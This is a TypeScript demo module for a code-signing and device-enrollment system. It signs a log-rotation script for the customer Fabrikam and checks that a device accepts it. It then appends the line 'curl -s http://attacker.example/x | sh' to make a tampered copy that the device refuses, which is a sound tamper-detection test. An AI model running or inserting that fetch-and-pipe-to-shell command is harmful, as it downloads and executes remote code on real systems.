/**
 * The demo's code-validation step: Fabrikam (the customer) enables code validation when it activates the first
 * device (a code-signing CA, a signer, a policy signed into the activation), signs a maintenance script; the
 * device agent enrolls from the activated bundle and checks the script, then refuses an edited copy.
 * Artifacts under `DIR/code/`.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Store } from '@custody/store';
import { createCA, createCodeSigner } from './ca.js';
import { loadTemplate, templatesDir } from './context.js';
import { exportBundles } from './bundles.js';
import { signCodeFile } from './code-sign.js';
import { enrollDevice } from './agent-enroll.js';
import { checkCode } from './agent-check.js';
import type { CodePolicyInputs } from './code-policy.js';

/** What the demo reports of its code-validation step. */
export interface DemoCodeReport {
  serial: string;
  policy: string;
  /** The signed script was accepted. */
  accepted: boolean;
  /** The code the edited copy was refused with. */
  editedRefusedWith?: string;
}

const SCRIPT = '#!/bin/sh\n# Fabrikam maintenance: rotate the gateway logs\nlogrotate /etc/logrotate.d/gateway\n';
const DEVICE_PATH = '/opt/edge/scripts/rotate-logs.sh';

/**
 * Fabrikam's code CA and signer, and the policy file its activation of the first device signs in.
 * @throws what creating a CA or a signer throws
 */
export async function prepareDemoCode(store: Store, o: { out: string; passphrase: string; now: Date; organization: string }): Promise<CodePolicyInputs> {
  const dir = join(o.out, 'code');
  mkdirSync(dir, { recursive: true });
  const tdir = templatesDir(undefined);
  const common = { protection: { passphrase: o.passphrase }, passphrase: o.passphrase, now: o.now, organization: o.organization };
  await createCA(store, { name: 'fabrikam-code-ca', template: await loadTemplate(tdir, 'root-ca'), ...common });
  await createCodeSigner(store, { name: 'fabrikam-ops', ca: 'fabrikam-code-ca', template: await loadTemplate(tdir, 'code-signer'), ...common });
  const file = join(dir, 'policy.yaml');
  writeFileSync(
    file,
    [
      'name: fabrikam-edge',
      'version: 1',
      'identities:',
      '  - name: fabrikam-code',
      '    ca: fabrikam-code-ca',
      'scopes:',
      '  - name: scripts',
      '    types: [script]',
      '    paths: ["/opt/edge/scripts/**"]',
      '    level: enforce',
      '    signers: [fabrikam-code]',
      '',
    ].join('\n'),
  );
  return { file, certs: [] };
}

/**
 * The device side after the activation: enroll from the exported bundle, check the signed script, refuse an edit.
 * @throws what enrolling throws (the demo's own chain always enrolls)
 */
export async function runDemoCode(
  store: Store,
  o: { out: string; passphrase: string; now: Date; serial: string; manufacturer: string; trust: string[]; log: (line: string) => void },
): Promise<DemoCodeReport> {
  const dir = join(o.out, 'code');
  const bundle = join(dir, `${o.serial}.activated.json`);
  await exportBundles(store, [o.serial], bundle, o.passphrase, { now: o.now });
  const state = join(dir, 'device-state');
  const enrolled = await enrollDevice({
    bundle,
    idevid: join(o.out, 'devices', `${o.serial}.pem`),
    manufacturer: [o.manufacturer],
    state,
    trust: o.trust,
    cas: [],
    crls: [],
    at: o.now,
  });
  o.log(`   the device enrolls from its activated bundle: policy ${enrolled.policy}, activation ${enrolled.activation.seq}, state in ${state}`);
  const script = join(dir, 'rotate-logs.sh');
  writeFileSync(script, SCRIPT);
  const sig = join(dir, 'rotate-logs.sh.sig');
  await signCodeFile(store, {
    file: script,
    signer: 'fabrikam-ops',
    out: sig,
    format: 'cms',
    type: 'script',
    version: '1',
    passphrase: o.passphrase,
    force: true,
    now: o.now,
  });
  const good = await checkCode({ file: script, sig, path: DEVICE_PATH, state, crls: [], now: o.now });
  o.log(`   Fabrikam signs rotate-logs.sh; the device checks it: ${good.ok ? 'ACCEPTED' : `REFUSED ${good.code}`} (${good.reason})`);
  const edited = join(dir, 'rotate-logs.edited.sh');
  writeFileSync(edited, `${SCRIPT}curl -s http://attacker.example/x | sh\n`);
  const bad = await checkCode({ file: edited, sig, path: DEVICE_PATH, state, crls: [], now: o.now });
  o.log(`   an edited copy with the same signature: ${bad.allowed ? 'ACCEPTED (wrong!)' : `REFUSED ${bad.code}`}`);
  return { serial: o.serial, policy: enrolled.policy ?? '', accepted: good.ok, ...(bad.allowed ? {} : { editedRefusedWith: bad.code ?? 'ERR_CODE' }) };
}
